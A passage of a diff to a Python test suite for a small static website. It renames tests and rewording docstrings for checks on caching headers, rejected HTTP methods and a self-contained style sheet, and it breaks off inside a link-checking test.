         etag = ask(site, "/project/fast-fft/").headers["etag"]
         again = ask(site, "/project/fast-fft/", headers={"if-none-match": etag})
         assert (again.status, body(again)) == (304, b"")
 
     def test_methods(self, site: Site) -> None:
-        """Nothing can be changed here."""
+        """Only GET and HEAD are allowed."""
         assert ask(site, "/", "DELETE").status == 405
         assert ask(site, "/project/fast-fft/", "POST").status == 405
         assert ask(site, "/", "HEAD").length == ask(site, "/").length
 
-    def test_style(self, site: Site) -> None:
-        """The one file beside the pages loads nothing else."""
+    def test_style_sheet(self, site: Site) -> None:
+        """The style sheet loads nothing else."""
         answer = ask(site, "/site.css")
         assert answer.headers["content-type"] == "text/css; charset=utf-8"
         assert b"url(" not in body(answer)
         assert b"@import" not in body(answer)
 
     @pytest.mark.integration
-    def test_every_link_leads_somewhere(self, site: Site) -> None:
-        """From the front page every link to a page of the site is answered."""
+    def test_links_between_pages(self, site: Site) -> None:
+        """Every link from the front page works."""
         from urllib.parse import urljoin, urlsplit
 
         seen: set[str] = set()
